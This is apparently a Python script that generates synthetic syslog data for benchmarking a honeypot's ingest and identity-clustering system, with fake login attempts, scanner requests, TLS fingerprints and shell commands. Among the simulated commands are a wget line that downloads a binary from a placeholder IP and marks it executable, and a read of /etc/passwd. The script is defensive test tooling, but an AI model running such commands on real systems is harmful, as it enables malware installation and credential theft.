#!/usr/bin/env python3
"""Synthetic RFC 5424 corpus for the benchmarks: gen_corpus.py OUT LINES IPS [MODE].

MODE `shared` (default, the ingest benchmark): every IP sends the same TLS/HTTP fingerprints.
MODE `distinct` (the API benchmark): IPs come in small groups (1-3 IPs, one actor behind them)
with their own JA3/JA4/JA4H, so the identity clusterer forms about one identity per group
instead of one giant identity, and the tables reach the sizes a real busy fleet has.
"""
import base64, hashlib, random, sys
path, n, nips = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
mode = sys.argv[4] if len(sys.argv) > 4 else "shared"
rnd = random.Random(5424)
ips = [f"{rnd.randint(1,223)}.{rnd.randint(0,255)}.{rnd.randint(0,255)}.{rnd.randint(1,254)}" for _ in range(nips)]
deckies = ["web-decky-03", "intranet-02", "mail-01", "db-07", "files-02", "vpn-01"]
users = ["root", "admin", "oracle", "ubuntu", "test"]
pws = ["123456", "admin", "P@ssw0rd!", "letmein", "toor", "qwerty"]
uas = ["Mozilla/5.0 (compatible; Nuclei - Open-source project)", "curl/8.4.0", "python-requests/2.31.0",
       "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36", "sqlmap/1.7.2#stable"]
group = {}
if mode == "distinct":
    g = 0; i = 0
    while i < len(ips):
        size = rnd.choice([1, 1, 1, 2, 3])
        for ip in ips[i:i + size]:
            group[ip] = g
        i += size; g += 1
def fp(ip, kind, length):
    """The fingerprint `kind` of the actor behind `ip` (shared mode: one for everybody)."""
    if mode != "distinct":
        return {"ja3": "920a9eebe236a8205f28dd68763c3d0f", "ja4": "02713d6af862",
                "ja4h": "000000000000"}[kind]
    return hashlib.sha256(f"{kind}-{group[ip]}".encode()).hexdigest()[:length]
def esc(v): return v.replace("\\", "\\\\").replace('"', '\\"').replace("]", "\\]")
def sd(**kv): return "[relay@55555 " + " ".join(f'{k}="{esc(str(v))}"' for k, v in kv.items()) + "]"
with open(path, "w") as f:
    for i in range(n):
        ip = rnd.choice(ips); d = rnd.choice(deckies)
        ts = f"2026-05-{14 + i // 2000000:02d}T{(i // 3600000) % 24:02d}:{(i // 60000) % 60:02d}:{(i // 1000) % 60:02d}.{i % 1000:03d}{rnd.randint(0,999):03d}+00:00"
        r = rnd.randrange(100)
        if r < 25:
            u = rnd.choice(users); p = rnd.choice(pws)
            line = f"<134>1 {ts} {d} auth-helper - auth_attempt " + sd(username=u, principal=u, secret_printable=p, secret_b64=base64.b64encode(p.encode()).decode(), src_ip=ip)
        elif r < 45:
            h = '{"Host": "10.20.0.12", "User-Agent": "%s", "Accept": "*/*", "X-Forwarded-For": "%s"}' % (rnd.choice(uas), rnd.choice(["127.0.0.1", "8.8.8.8", ip]))
            line = f"<134>1 {ts} {d} http - request " + sd(method="GET", path=f"/wp-admin/{rnd.randrange(500)}.php", remote_addr=ip, headers=h)
        elif r < 55:
            line = f"<134>1 {ts} {d} http - http_request_fingerprint " + sd(remote_addr=f"{ip}:{rnd.randint(1024,65535)}", proto="h1", method="GET", path="/", ja4h="ge11nn0000_04_3f2a1c9b8d7e_" + fp(ip, "ja4h", 12))
        elif r < 62:
            line = f"<134>1 {ts} {d} sniffer - tls_client_hello " + sd(src_ip=ip, dst_port="443", ja3=fp(ip, "ja3", 32), ja4="t13d1516h2_8daaf6152771_" + fp(ip, "ja4", 12), sni="intranet.corp.example", alpn="h2")
        elif r < 68:
            line = f"<134>1 {ts} decnet-prober prober - jarm_fingerprint " + sd(target_ip=ip, target_port="8443", jarm_hash="2ad2ad0002ad2ad22c2ad2ad2ad2ad2eac92ec34bcc0cf7520e97547f83e81")
        elif r < 82:
            cmd = rnd.choice(["id", "uname -a", "wget -q http://198.51.100.23:8080/x86.bin -O /tmp/.x; chmod +x /tmp/.x", "cat /etc/passwd"])
            line = f"<14>1 {ts} {d} 1 - - -  {ts} {d} bash - command [timeQuality tzKnown=\"1\"] CMD uid=0 user=root src={ip} pwd=/tmp cmd={cmd}"
        elif r < 96:
            line = f"<134>1 {ts} mail-01 smtp - {rnd.choice(['ehlo', 'mail_from', 'rcpt_to', 'connect'])} " + sd(src_ip=ip, src_port=str(rnd.randint(1024, 65535)))
        else:
            line = f"<38>1 {ts} {d} sshd 940 - - Failed password for root from {ip} port 51822 ssh2"
        f.write(line + "\n")
